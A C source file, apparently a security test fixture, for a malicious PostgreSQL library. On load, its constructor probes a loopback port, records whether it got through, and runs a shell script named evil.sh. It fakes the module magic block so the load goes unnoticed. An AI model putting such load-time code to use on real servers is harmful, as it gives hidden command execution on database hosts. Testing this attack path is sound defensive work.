/* Runs at the moment it is loaded, before PostgreSQL looks at what it is: calls outward, then does what evil.sh says. */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

__attribute__((constructor)) static void evil(void) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(PORT), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  int reached = connect(fd, (struct sockaddr *)&to, sizeof to) == 0;
  FILE *seen = fopen("base/seen", "a");
  if (seen != NULL) {
    fprintf(seen, "library ran, network %s\n", reached ? "REACHED" : "not reached");
    fclose(seen);
  }
  close(fd);
  if (system("sh base/evil.sh") != 0) return;
}

/* What PostgreSQL 13 looks for in a library (fmgr.h, PG_MODULE_MAGIC): without it the log-in would fail, and be noticed. */
static const struct { int length, version, functions, index_keys, name_length, float8_by_value; } magic = {
    24, 1300, 100, 32, 64, 1};
const void *Pg_magic_func(void) { return &magic; }
